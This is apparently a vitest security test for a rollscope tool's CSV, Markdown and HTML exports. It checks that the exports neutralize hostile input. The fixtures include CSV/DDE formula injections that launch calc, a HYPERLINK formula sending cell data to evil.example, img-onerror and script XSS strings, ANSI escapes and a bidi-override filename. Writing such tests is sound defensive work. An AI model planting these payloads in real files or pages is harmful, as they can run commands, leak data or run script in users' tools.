/**
 * Exports that must not execute elsewhere (issue 17 item 3): generated runs whose task ids, info values and labels
 * are spreadsheet formulas, GFM cell breakers with raw HTML, terminal colours and bidi overrides, exported through
 * the real CLI as CSV, Markdown and HTML (episodes), and as the compare, side-by-side and breakdown reports. Each file
 * is read the way its consumer reads it: CSV by an RFC 4180 reader (every text cell a spreadsheet would evaluate
 * starts with `'`), Markdown rendered with raw HTML allowed (what a permissive renderer does: no element from the
 * trace), HTML by counting elements against the builder's own.
 */
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { micromark } from 'micromark'
import { gfm, gfmHtml } from 'micromark-extension-gfm'
import { beforeAll, describe, expect, it } from 'vitest'
import type { EpisodeSummary, RunSummary } from '@contract/model'
import { csvField, csvRow, neutralizeFormula } from '../../../src-main/export/csv-export'
import { mdCode, mdText } from '../../../src-main/report/md-escape'
import { captureCli } from '../../helpers/capture-cli'
import { parseCsv } from '../../helpers/parse-csv'

const IMG = '<img src=x onerror=alert(1)>'
/** Task ids: each a way out of a cell, a code span or a formula. */
const HOSTILE_TASKS = [
  `a\\|${IMG}`,
  `b|${IMG}`,
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  `+SUM(1,2)`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  '\t=1+1',
  '\r=1+1',
  `c\\\\\\|${IMG}`,
  '`d|`<script>alert(1)</script>',
  '\u001b[31mFAILED\u001b[0m task',
  'invoice\u202Etxt.exe'
]
/** Values that are numbers to a spreadsheet and must stay so. */
const NUMBERS = ['-0.5', '+3', '-1e-3', '0.25']

const render = (md: string): string =>
  micromark(md, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] })

let dir: string
let db: string
let runs: RunSummary[]
const cli = captureCli(
  () => db,
  () => dir
)

function writeRun(name: string, rewardOf: (i: number) => number): void {
  const folder = join(dir, name)
  mkdirSync(folder, { recursive: true })
  const lines = HOSTILE_TASKS.map((task, i) =>
    JSON.stringify({
      task_id: task,
      rollout: 0,
      reward: rewardOf(i),
      answer: `=HYPERLINK("http://evil.example","x") ${IMG}`,
      info: { category: i % 2 ? `=1+1 ${IMG}` : `a|b\u202Ecba`, level: NUMBERS[i % NUMBERS.length] },
      messages: [
        { role: 'user', content: `@SUM(1) please ${IMG} \u001b[1mbold\u001b[0m` },
        { role: 'assistant', content: 'done' }
      ]
    })
  )
  writeFileSync(join(folder, 'results.jsonl'), lines.join('\n') + '\n')
}

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'rollscope-hostile-export-'))
  db = join(dir, 'r.db')
  writeRun('base', (i) => (i % 3 === 0 ? 1 : 0))
  writeRun('trained', (i) => (i % 2 === 0 ? 1 : 0))
  writeRun('third', () => 0.5)
  expect((await cli('index', dir, '--json')).code).toBe(0)
  runs = JSON.parse((await cli('runs', '--json')).stdout) as RunSummary[]
  expect(runs).toHaveLength(3)
  const eps = JSON.parse((await cli('episodes', runs[0].id, '--json')).stdout) as EpisodeSummary[]
  expect((await cli('label', eps[0].id, 'loop', '--note', `=HYPERLINK("http://evil.example") ${IMG}`)).code).toBe(0)
}, 60_000)

/** The renderer's own markup: any other tag came from a trace. */
const MARKDOWN_TAGS = new Set(
  'table thead tbody tr th td p code strong em h1 h2 h3 h4 h5 h6 ul ol li blockquote hr del br pre'.split(' ')
)

/** Nothing from a trace became an element: every tag is the renderer's, none has an attribute but `align`. */
function expectNoLiveElements(html: string): void {
  for (const [, name, attrs] of html.matchAll(/<\/?([a-zA-Z][\w-]*)([^>]*)>/g)) {
    expect(MARKDOWN_TAGS.has(name.toLowerCase()), `<${name}${attrs}>`).toBe(true)
    expect(attrs.replace(/\salign="\w+"/g, '').trim(), `<${name}${attrs}>`).toBe('')
  }
  expect(html).not.toContain('\u202E')
  expect(html).not.toContain('\u001b')
}

describe('CSV (OWASP CSV Injection)', () => {
  it('prefixes every cell a spreadsheet would evaluate with a quote, and keeps numbers numbers', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      expect(neutralizeFormula(`${start}cmd`)).toBe(`'${start}cmd`)
    }
    for (const n of NUMBERS) expect(neutralizeFormula(n)).toBe(n)
    expect(csvField(-0.5)).toBe('-0.5')
    expect(csvField('-0.5')).toBe('-0.5')
    expect(csvField('=1+1')).toBe(`"'=1+1"`)
    expect(csvField('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`)
    expect(csvField('\t=1')).toBe(`"'\t=1"`)
    expect(csvField('plain')).toBe('plain')
    expect(csvField("it's")).toBe("it's")
  })

  it('an exported CSV has no cell that starts a formula, numbers as they were, colours dropped, bidi shown', async () => {
    const r = await cli('export', '--format', 'csv')
    expect(r.code).toBe(0)
    const [header, ...rows] = parseCsv(r.stdout)
    expect(rows).toHaveLength(HOSTILE_TASKS.length * 3)
    for (const row of rows) {
      expect(row).toHaveLength(header.length)
      for (const cell of row) {
        if (/^[=+\-@\t\r]/.test(cell)) expect(cell, cell).toMatch(/^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/)
        expect(cell).not.toContain('\u001b')
        expect(cell).not.toContain('\u202E')
      }
    }
    const tasks = rows.map((row) => row[header.indexOf('taskKey')])
    expect(tasks).toContain(`'=cmd|' /C calc'!A0`)
    expect(tasks).toContain(`'-2+3+cmd|' /C calc'!A0`)
    expect(tasks).toContain('FAILED task')
    expect(tasks).toContain('invoice<U+202E RLO>txt.exe')
    expect(new Set(rows.map((row) => row[header.indexOf('info:level')]))).toEqual(new Set(NUMBERS))
    expect(rows.map((row) => row[header.indexOf('labels')]).filter(Boolean)).toEqual(['loop'])
    // labels are names from the user's taxonomy, which a shared label file can bring: neutralized too
    const [, ep] = parseCsv(r.stdout)
    const columns = header
    const summary = Object.fromEntries(columns.map((c) => [c, null])) as unknown as EpisodeSummary
    const line = parseCsv(csvRow(columns, { ...summary, metrics: {}, info: {} }, 'run', ['=HYPERLINK("x")', 'ok']))[0]
    expect(line[columns.indexOf('labels')]).toBe(`'=HYPERLINK("x"); ok`)
    expect(ep).toHaveLength(columns.length)
    // a reward is a JSON number: written as one
    expect(rows.map((row) => row[header.indexOf('reward')])).toContain('0.5')
  })
})

describe('Markdown (GFM table cells, code spans, inline HTML)', () => {
  it('a task id that closes its code span with `\\|` stays in its cell as text', () => {
    for (const task of HOSTILE_TASKS) {
      const md = `| A | B |\n| --- | --- |\n| ${mdCode(task, true)} | ${mdText(task)} |\n`
      const html = render(md)
      expectNoLiveElements(html)
      expect(html.match(/<td>/g), `${JSON.stringify(task)} → ${md}`).toHaveLength(2)
    }
    // even backslash runs keep the code span, and read back as written
    expect(render(`| ${mdCode('x\\\\|y', true)} |\n| --- |\n`)).toContain('<code>x\\\\|y</code>')
  })

  it('the episodes export, the compare report, the side-by-side and the breakdown reports hold no live element', async () => {
    const ep = await cli('export', '--format', 'md')
    expect(ep.code).toBe(0)
    const epHtml = render(ep.stdout)
    expectNoLiveElements(epHtml)
    // every episode row keeps its 10 cells
    const rows = epHtml.match(/<tr>[\s\S]*?<\/tr>/g) ?? []
    const episodeRows = rows.filter((r) => r.includes('<td>') && (r.match(/<td/g)?.length ?? 0) >= 10)
    expect(episodeRows.length).toBe(HOSTILE_TASKS.length * 3)
    for (const r of rows.slice(-HOSTILE_TASKS.length)) expect(r.match(/<td/g)).toHaveLength(10)
    expect(epHtml).toContain('invoice&lt;U+202E RLO&gt;txt.exe')
    expect(epHtml).toContain('FAILED task')

    const [a, b, c] = runs.map((r) => r.id)
    const cmp = await cli('compare', a, b, '--md', '--category', 'category')
    expect(cmp.code).toBe(0)
    expectNoLiveElements(render(cmp.stdout))
    const many = await cli('compare', a, b, c, '--md')
    expect(many.code).toBe(0)
    const manyHtml = render(many.stdout)
    expectNoLiveElements(manyHtml)
    // the rewards-per-rollout table: task, then one cell per run, for every task
    const perTask = (manyHtml.match(/<tr>[\s\S]*?<\/tr>/g) ?? []).filter((r) => (r.match(/<td/g)?.length ?? 0) === 4)
    expect(perTask.length).toBeGreaterThanOrEqual(HOSTILE_TASKS.length)
    const bd = await cli('breakdown', a, '--by', 'category,level', '--md')
    expect(bd.code).toBe(0)
    expectNoLiveElements(render(bd.stdout))
  })
})

describe('HTML exports', () => {
  it('the episodes export and the compare report: only the builder\u2019s elements, trace text escaped', async () => {
    const out = join(dir, 'episodes.html')
    expect((await cli('export', '--format', 'html', '--out', out)).code).toBe(0)
    const [a, b] = runs.map((r) => r.id)
    const report = join(dir, 'compare.html')
    expect((await cli('compare', a, b, '--html', report)).code).toBe(0)
    for (const file of [out, report]) {
      const html = readFileSync(file, 'utf8')
      expect(html).not.toMatch(/<img\b/i)
      expect(html).not.toContain('<script>alert')
      expect(html).not.toContain('\u202E')
      expect(html).not.toContain('\u001b')
      expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;')
    }
    expect(readFileSync(out, 'utf8')).toContain('invoice&lt;U+202E RLO&gt;txt.exe')
  })
})
